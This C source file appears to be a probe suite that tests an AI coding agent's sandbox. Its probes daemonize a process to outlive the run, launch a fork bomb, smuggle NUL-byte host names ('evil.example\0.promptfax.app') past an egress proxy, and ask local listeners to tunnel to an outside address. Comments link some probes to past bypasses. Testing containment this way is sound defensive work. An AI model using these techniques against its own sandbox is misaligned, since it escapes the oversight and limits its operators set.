// SPDX-License-Identifier: Apache-2.0
/* Outliving the run, outgrowing it; and what broke other jails. */
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include "escape.h"
#include "tables.h"

#define HEARTBEAT_US 20000
#define BOMB_FORKS   700
#define LISTEN_STATE 0x0a /* of /proc/net/tcp */

static _Noreturn void beat(const char *path)
{
	for (unsigned n = 0;; n++) {
		int fd = open("beat", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);

		dprintf(fd, "%d %u\n", getpid(), n);
		close(fd);
		rename("beat", path);
		usleep(HEARTBEAT_US);
	}
}

/* Whether it outlives the run is seen outside, which puts its word in the place of this one. */
static void try_daemon(const struct probe *probe)
{
	const char *path = target(probe, 0);

	if (fork() == 0) {
		setsid();
		signal(SIGHUP, SIG_IGN);
		signal(SIGTERM, SIG_IGN);
		if (fork())
			_exit(0);
		closefrom(0);
		beat(path);
	}
	for (int i = 0; i < 200 && access(path, F_OK); i++)
		usleep(HEARTBEAT_US);
	stopped_by("daemon", "STARTED");
}

static void try_fork_bomb(const struct probe *probe)
{
	int n = 0, error = 0;

	(void)probe;
	while (n < BOMB_FORKS && !error) {
		pid_t pid = fork();

		if (!pid) {
			pause();
			_exit(0);
		}
		error = pid < 0 ? errno : 0;
		n += pid > 0;
	}
	/* All are of this process group, which ends with the probe. */
	errno = error;
	if (error)
		stopped("fork");
	reached("%d processes", n);
}

const struct probe probes_life[] = {
	{"daemon", "outlive the run: setsid, two forks, no descriptor", "daemon:GONE", try_daemon,
	 "{project}/heartbeat"},
	{"fork-bomb", "more processes than the policy allows", "fork:EAGAIN", try_fork_bomb},
	{.name = NULL},
};

/* --- peers -------------------------------------------------------------------------------- */

static _Noreturn void say_to(const struct probe *probe, const void *bytes, size_t n)
{
	struct address to = target_address(probe);
	int fd = socket(to.bytes.ss_family, SOCK_STREAM, 0);

	if (fd < 0)
		stopped("socket");
	if (connect(fd, address_of(&to), to.size))
		stopped("connect");
	if (send(fd, bytes, n, MSG_NOSIGNAL) < 0)
		stopped("send");
	answered(fd, NULL);
}

#define SAY(probe, text) say_to(probe, text, sizeof(text) - 1)

static void try_socks_nul(const struct probe *probe)
{
	SAY(probe, "\x05\x01\x00\x05\x01\x00\x03\x1c"
		   "evil.example\0.promptfax.app"
		   "\x01\xbb");
}

static void try_connect_nul(const struct probe *probe)
{
	SAY(probe, "CONNECT evil.example\0.promptfax.app:443 HTTP/1.1\r\n"
		   "Host: promptfax.app:443\r\n\r\n");
}

static void try_host_nul(const struct probe *probe)
{
	SAY(probe, "GET / HTTP/1.1\r\nHost: evil.example\0.promptfax.app\r\n\r\n");
}

static void try_get(const struct probe *probe)
{
	SAY(probe, "GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n");
}

/* Whoever listens in this network namespace, asked directly: the proxy is one. */
static void try_listeners(const struct probe *probe)
{
	static const char *const tables[] = {"/proc/net/tcp", "/proc/net/tcp6"};
	char line[256], answer[64];
	unsigned port, state;
	int asked = 0;

	(void)probe;
	for (int i = 0; i < 2; i++) {
		FILE *f = fopen(tables[i], "re");

		while (f && fgets(line, sizeof(line), f)) {
			struct sockaddr_in to = {.sin_family = AF_INET};
			int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
			const struct timeval limit = {.tv_usec = 300000};

			to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
			if (sscanf(line, " %*d: %*[0-9A-F]:%x %*[0-9A-F:] %x", &port, &state) ==
				    2 &&
			    state == LISTEN_STATE) {
				to.sin_port = htons((uint16_t)port);
				setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof(limit));
				asked += !connect(fd, (struct sockaddr *)&to, sizeof(to));
				send(fd,
				     "CONNECT 192.0.2.10:443 HTTP/1.1\r\nHost: "
				     "192.0.2.10:443\r\n\r\n",
				     57, MSG_NOSIGNAL);
				memset(answer, 0, sizeof(answer));
				if (recv(fd, answer, sizeof(answer) - 1, 0) > 0 &&
				    (strstr(answer, " 200 ") || !strncmp(answer, "host ", 5)))
					reached("port %u: %s", port, strtok(answer, "\r\n"));
			}
			close(fd);
		}
	}
	stopped_by("listeners", asked ? "REFUSED" : "NONE");
}

#define NOT_OURS "answer:OTHER answer:CLOSED answer:ECONNRESET send:ECONNRESET"

const struct probe probes_peers[] = {
	{"socks-nul", "a NUL in a SOCKS host name (Claude Code up to 2.1.89)", NOT_OURS,
	 try_socks_nul, "192.0.2.10 3128"},
	{"connect-nul", "… in CONNECT", NOT_OURS, try_connect_nul, "192.0.2.10 3128"},
	{"host-nul", "… in Host", NOT_OURS, try_host_nul, "192.0.2.10 80"},
	{"own-listeners", "the proxy's listeners, asked directly",
	 "listeners:REFUSED listeners:NONE", try_listeners},
	{"policy-replaced", "after the policy's file was replaced outside (claude-code#81572)",
	 NOT_OURS, try_get, "192.0.2.10 80"},
	{.name = NULL},
};
